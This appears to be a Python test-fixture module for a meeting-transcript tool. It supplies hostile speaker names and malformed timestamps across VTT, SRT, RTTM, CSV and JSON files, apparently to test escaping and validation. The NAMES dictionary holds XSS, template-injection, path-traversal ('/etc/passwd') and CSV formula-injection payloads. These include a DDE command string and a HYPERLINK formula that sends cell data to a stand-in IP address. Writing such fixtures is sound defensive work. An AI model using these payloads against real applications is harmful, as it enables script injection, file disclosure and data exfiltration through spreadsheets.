"""Transcripts nobody would want to be given: names that are programs, paths or endless, and times that cannot be."""

from talkbalance.meeting import Meeting, Source, Speaker, Utterance, Word

NAMES = {
    "script": "<script>window.hurt=1</script>",
    "picture": '"><img src=x onerror="window.hurt=1">',
    "link": "javascript:window.hurt=1",
    "entity": "&lt;b&gt; &amp; &#x27;",
    "template": "{{ 7 * 7 }}{% raw %}",
    "braces": "{0.__class__} {name} %s %(n)d",
    "emoji": "👩🏽‍💼 Eva 🎧",
    "right to left": "\u202eavE \u2067محمد\u2069",
    "no width": "E\u200bv\u200da\ufeff",
    "combining": "E" + "\u0301" * 300,
    "endless": "Eva" + "a" * 9_997,
    "endless words": "Eva Baum " * 1_111,
    "up": "../../../etc/passwd",
    "root": "/etc/passwd",
    "windows": "C:\\Windows\\system32",
    "device": "CON",
    "formula": '=HYPERLINK("http://192.0.2.1/?"&A1,"x")',
    "program": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd",
    "minus": "-2+3",
    "tab": "\t=1+1",
    "quotes": "\"'`,;\t|",
    "colon": "Eva: Guten Tag",
    "equals": "S1=Eva",
    "lines": "Eva\nBaum\r\nWEBVTT\n\n",
    "arrow": "00:01.000 --> 00:02.000",
    "controls": "Eva\x07\x1b[31mrot\x1b[0m",
}
"""What to call people, by what is hostile about it."""


def crowd() -> Meeting:
    """Return a meeting of everybody in `NAMES`, who say their names, with words of their own."""
    people = [Speaker(name, "agency" if i % 2 else "client") for i, name in enumerate(NAMES.values())]
    said = tuple(
        Utterance(2 * i, 2 * i + 1.5, name, f"{name}?", (Word(2 * i, 2 * i + 1, name, 0.9),) if len(name) < 100 else ())
        for i, name in enumerate(NAMES.values())
    )
    return Meeting(
        tuple(people), said, 2 * len(said) + 1, "<b>=1+1</b>/../x", "de", Source("<i>.mp4", "sound", overlap_observable=True)
    )


VTT = "WEBVTT\n\n{first}\n<v Eva>Was ist Ihnen wichtig?</v>\n\n{second}\n<v Baum>Die Zeit.</v>\n"
SRT = "1\n{first}\nEva: Was ist Ihnen wichtig?\n\n2\n{second}\nBaum: Die Zeit.\n"
RTTM = "SPEAKER call 1 {first} <NA> <NA> Eva <NA> <NA>\nSPEAKER call 1 {second} <NA> <NA> Baum <NA> <NA>\n"
CSV = "speaker,start,end,text\nEva,{first},Was?\nBaum,{second},Das.\n"
JSON = '{{"segments": [{{"speaker": "Eva", {first}, "text": "Was?"}}, {{"speaker": "Baum", {second}, "text": "Das."}}]}}'

_FINE = {
    "call.vtt": "00:03.000 --> 00:04.000",
    "call.srt": "00:00:03,000 --> 00:00:04,000",
    "call.rttm": "3 1",
    "call.csv": "3,4",
    "call.json": '"start": 3, "end": 4',
}
_SHAPES = {"call.vtt": VTT, "call.srt": SRT, "call.rttm": RTTM, "call.csv": CSV, "call.json": JSON}
_ENDLESS = (
    "99999999999:00:00.000 --> 99999999999:00:01.000",
    f"{'9' * 400}:00:00,000 --> 1",
    "1e308 1e308",
    "1e999,1e999",
    '"start": 1e999, "end": 1e999',
)
_TIMES = {
    "negative": ("-00:01.000 --> 00:02.000", "-00:00:01,000 --> 00:00:02,000", "-1 3", "-1,2", '"start": -1, "end": 2'),
    "equal": ("00:01.000 --> 00:01.000", "00:00:01,000 --> 00:00:01,000", "1 0", "1,1", '"start": 1, "end": 1'),
    "reversed": ("00:02.000 --> 00:01.000", "00:00:02,000 --> 00:00:01,000", "2 -1", "2,1", '"start": 2, "end": 1'),
    "missing": (" --> 00:02.000", " --> 00:00:02,000", "<NA> 1", ",2", '"end": 2'),
    "no end": ("00:01.000 --> ", "00:00:01,000 --> ", "1 <NA>", "1,", '"start": 1'),
    "no number": ("xx:01.000 --> yy", "aa --> bb", "x y", "x,y", '"start": "x", "end": null'),
    "endless": (
        "99999999999:00:00.000 --> 99999999999:00:01.000",
        "9" * 400 + ":00:00,000 --> 1",
        "1e308 1e308",
        "1e999,1e999",
        '"start": 1e999, "end": 1e999',
    ),
    "no number of numbers": ("NaN --> NaN", "NaN --> NaN", "nan nan", "nan,nan", '"start": NaN, "end": NaN'),
}


def times() -> dict[str, tuple[str, str]]:
    """Return by name transcripts whose first utterance has impossible times: what the file is called, and its content."""
    return {
        f"{kind} in {name}": (name, _SHAPES[name].format(first=first, second=_FINE[name]))
        for kind, row in _TIMES.items()
        for name, first in zip(_SHAPES, row, strict=True)
    }
